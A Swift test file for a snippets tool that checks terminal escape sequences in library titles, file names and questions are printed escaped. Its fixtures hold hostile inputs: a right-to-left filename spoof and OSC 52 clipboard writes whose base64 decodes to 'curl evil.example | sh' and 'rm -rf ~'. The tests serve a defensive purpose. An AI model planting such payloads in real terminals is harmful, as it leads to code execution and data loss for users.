import Foundation
import Testing

@testable import SnippetsServer

/// Titles, triggers, descriptions, file and folder names and questions that carry terminal escapes (clear the screen,
/// set the window title, write the clipboard with OSC 52, a C1 CSI) and a right-to-left override: no command prints
/// one raw to a terminal; each shows up escaped, so the user still sees that something odd is there.
@Suite struct TerminalEscapeTests {
    static let clear = "\u{1B}[2J\u{1B}[H"
    static let windowTitle = "\u{1B}]0;owned\u{07}"
    static let clipboard = "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}"
    static let c1 = "\u{9B}31m"
    static let override = "\u{202E}fdp.exe"

    /// A library whose every printable field carries escapes, in a folder and a file whose names do too.
    private func hostileLibrary() throws -> (root: String, library: String) {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("terminal-\(UUID().uuidString)").path
        let library = root + "/lib\(Self.windowTitle)"
        try FileManager.default.createDirectory(atPath: library, withIntermediateDirectories: true)
        let entries: [String: Any] = [
            "Invoice \(Self.clear)footer\(Self.override)": [
                "prefix": ["invfoot\(Self.clipboard)"], "body": ["Payment is due within 14 days."],
                "description": "Footer \(Self.c1) for invoices\(Self.windowTitle)",
            ],
            // Two definitions of one trigger: check names both places.
            "Invoice twin\(Self.clipboard)": ["prefix": ["invfoot\(Self.clipboard)"], "body": ["Payment is due soon."]],
            // A broken body: check quotes the entry.
            "Broken \(Self.clear)body": ["prefix": "brk\(Self.windowTitle)", "body": "${1:unclosed"],
        ]
        let data = try JSONSerialization.data(withJSONObject: entries, options: [.sortedKeys])
        try data.write(to: URL(fileURLWithPath: library + "/bills\(Self.clear).code-snippets"))
        return (root, library)
    }

    /// Fails for every character of `text` that acts on a terminal.
    private func expectNothingActsOnATerminal(_ text: String, _ command: String, sourceLocation: SourceLocation = #_sourceLocation) {
        let acting = text.unicodeScalars.filter { scalar in
            (scalar.value < 0x20 && scalar != "\n" && scalar != "\t") || (0x7F...0x9F).contains(scalar.value)
                || (0x202A...0x202E).contains(scalar.value) || (0x2066...0x2069).contains(scalar.value)
        }
        #expect(acting.isEmpty, "\(command) printed \(acting.map { String($0.value, radix: 16) })", sourceLocation: sourceLocation)
    }

    @Test func noCommandPrintsAnEscapeRawAndEachShowsEscaped() async throws {
        let (root, library) = try hostileLibrary()
        defer { try? FileManager.default.removeItem(atPath: root) }
        let state = root + "/state"
        let environment = ["XDG_STATE_HOME": state, "HOME": root]
        // Shares no word with the library, so it is logged as a gap.
        let question = "zebra quantum \u{1B}]52;c;cm0gLXJmIH4=\u{07} \(Self.override)?"
        let runs: [(String, [String])] = [
            ("check", ["check", "--library", library]),
            ("check --client", ["check", "--client", "neovim", "--library", library]),
            ("search", ["search", "invfoot", "--library", library]),
            ("search (no match)", ["search", "zz\(Self.clear)", "--library", library]),
            ("ask", ["ask", "how do I write an invoice footer?", "--library", library]),
            ("ask (nothing matches)", ["ask", question, "--library", library]),
            ("ask (missing library)", ["ask", "invoice", "--library", root + "/gone\(Self.clear)"]),
            ("gaps", ["gaps"]),
            ("doctor", ["doctor", "--library", library]),
        ]
        for (name, arguments) in runs {
            let run = await runCommand(arguments, environment: environment)
            expectNothingActsOnATerminal(run.out + run.err, name)
        }
        // Shown, escaped: the user can see something odd is in the title, the question, the path.
        let search = await runCommand(["search", "invfoot", "--library", library], environment: environment)
        #expect(search.out.contains(#"Invoice \u{1B}[2J\u{1B}[Hfooter\u{202E}fdp.exe"#), "\(search.out)")
        let gaps = await runCommand(["gaps"], environment: environment)
        #expect(gaps.out.contains(#"zebra quantum \u{1B}]52;c;cm0gLXJmIH4=\u{7}"#), "\(gaps.out)")
        let doctor = await runCommand(["doctor", "--library", library], environment: environment)
        #expect(doctor.out.contains(#"lib\u{1B}]0;owned\u{7}"#), "\(doctor.out)")
    }

    @Test func jsonOutputKeepsTheTextExact() async throws {
        let (root, library) = try hostileLibrary()
        defer { try? FileManager.default.removeItem(atPath: root) }
        let run = await runCommand(["search", "invfoot", "--library", library, "--json"], environment: ["XDG_STATE_HOME": root + "/state"])
        #expect(!run.out.unicodeScalars.contains("\u{1B}"), "a JSON encoder escapes controls itself")
        let hits = try JSONSerialization.jsonObject(with: Data(run.out.utf8)) as? [[String: Any]]
        #expect(hits?.contains { ($0["title"] as? String) == "Invoice \(Self.clear)footer\(Self.override)" } == true, "\(run.out)")
    }

    @Test func escapedLeavesOrdinaryTextAloneAndWritesOutEveryControl() {
        #expect(TerminalText.escaped("Invoice footer\n\tdue: 14 days, café, 日本") == "Invoice footer\n\tdue: 14 days, café, 日本")
        #expect(TerminalText.escaped("a\u{1B}[2Jb\u{7}\u{9B}\u{202E}\u{2066}\r\u{7F}") == #"a\u{1B}[2Jb\u{7}\u{9B}\u{202E}\u{2066}\u{D}\u{7F}"#)
    }
}
